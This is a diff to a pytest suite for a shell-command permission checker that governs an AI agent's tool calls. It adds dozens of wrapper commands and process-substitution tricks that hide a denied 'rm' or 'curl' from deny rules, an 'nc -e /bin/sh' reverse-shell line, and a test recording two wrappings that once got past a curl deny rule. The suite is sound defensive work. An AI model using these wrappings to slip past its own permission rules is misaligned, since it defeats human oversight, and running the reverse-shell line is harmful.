@@ -86,6 +86,32 @@ SEEN_THROUGH = [
     "script -q /dev/null <<< 'rm keep.txt'",
     "bash --rcfile clean.sh -i",
     "zap() { bash; }; zap <<< 'rm keep.txt'",
+    # programs that run their arguments (issue 45)
+    "ssh-agent rm keep.txt",
+    "ssh-agent -a /tmp/agent.sock -t 60 rm keep.txt",
+    "dbus-run-session -- rm keep.txt",
+    "chronic rm keep.txt",
+    "unbuffer rm keep.txt",
+    "ifne rm keep.txt",
+    "lckdo /tmp/lock rm keep.txt",
+    "setarch x86_64 -R rm keep.txt",
+    "prlimit --nofile=10 rm keep.txt",
+    "bwrap --bind / / rm keep.txt",
+    "capsh -- -c 'rm keep.txt'",
+    "pee 'rm keep.txt' cat",
+    "hyperfine 'rm keep.txt'",
+    "systemd-inhibit rm keep.txt",
+    "gosu root rm keep.txt",
+    "eatmydata rm keep.txt",
+    "ip netns exec ns1 rm keep.txt",
+    "npm exec -- rm keep.txt",
+    "nix develop -c rm keep.txt",
+    "gdb --args rm keep.txt",
+    "socat - EXEC:'rm keep.txt'",
+    "socat - SYSTEM:'rm keep.txt',pty",
+    "ncat -l --sh-exec 'rm keep.txt'",
+    "make SHELL='rm keep.txt'",
+    "make CC=rm all",
 ]
 
 
@@ -151,6 +177,27 @@ OPAQUE = [
     ("node --import 'data:text/javascript,1' x.js", "data: URL"),
     ("hash -p /bin/rm zap; zap keep.txt", "hash -p"),
     ("enable -f ./zap.so zap; zap keep.txt", "enable -f"),
+    # code a program reads from a process substitution, its input or a file the line writes (issue 45)
+    ("make -f <(printf 'a:\\n\\trm keep.txt')", "process substitution"),
+    ("make --file=/dev/stdin <<< 'a:'", "process substitution"),
+    ("printf 'a:\\n\\trm keep.txt\\n' > Makefile; make", "build file the same line writes"),
+    ("printf 'a:\\n\\trm keep.txt\\n' > sub/Makefile; make -C sub", "build file the same line writes"),
+    ("just -f <(echo x)", "process substitution"),
+    ("python3 <(echo 'import os')", "read from its input or a device"),
+    ("perl <(echo 1)", "read from its input or a device"),
+    ("awk -f <(echo 'BEGIN{}')", "read from its input or a device"),
+    ("sed -f <(echo 1e) x", "read from its input or a device"),
+    ("m4 <(printf 'syscmd(rm keep.txt)')", "process substitution"),
+    ("echo 'syscmd(rm keep.txt)' | m4", "read from its input"),
+    ("gdb -x <(echo shell rm keep.txt) prog", "inline code"),
+    ("gdb prog <<< 'shell rm keep.txt'", "read from its input"),
+    ("ed keep.txt <<< '!rm keep.txt'", "read from its input"),
+    ("at now <<< 'rm keep.txt'", "read from its input"),
+    ("env <(echo rm) keep.txt", "known only when it runs"),
+    ("echo 'rm keep.txt' | tee >(sh)", "from a pipe"),
+    ("parallel -a <(echo 'rm keep.txt')", "from its input or a file"),
+    ("parallel :::: cmds.txt", "from its input or a file"),
+    ("nc -e /bin/sh example.com 9", "from a pipe"),
 ]
 
 
@@ -190,6 +237,12 @@ def test_an_ask_rule_alone_makes_opaque_commands_ask(repo):
         "find . -name '*.txt' | xargs -0 grep -l rm",
         "nice -n 5 git commit -m 'rm old files'",
         "strace -f git commit -m 'rm old files'",
+        "make -j4 test",
+        "make -C sub",
+        "diff <(sort plain.sh) <(sort clean.sh)",
+        "ip addr show",
+        "npm install",
+        "ssh-agent -k",
     ],
 )
 def test_plain_commands_are_not_asked_about(repo, command):
@@ -244,3 +297,10 @@ def test_a_script_too_long_to_follow_is_not_a_way_around_a_rule(repo):
     (repo / "long.sh").write_text("echo step\n" * 3000 + "rm keep.txt\n")
     verdict = rules(repo).decide("shell", {"command": "sh long.sh"})
     assert verdict.decision in ("deny", "ask") and "Bash(rm:*)" in (verdict.reason or verdict.rule_text)
+
+
+@pytest.mark.parametrize("command", ["make -f <(printf 'a:\\n\\tcurl x')", "ssh-agent curl x"])
+def test_the_two_lines_that_got_past_a_curl_deny_do_not(repo, command):
+    """Issue 45: both ran with `Bash(curl:*)` denied; one is seen through, the other refused."""
+    verdict = rules(repo, deny=("Bash(curl:*)",), ask=()).decide("shell", {"command": command})
+    assert verdict.decision in ("deny", "ask") and "Bash(curl:*)" in (verdict.reason or verdict.rule_text)
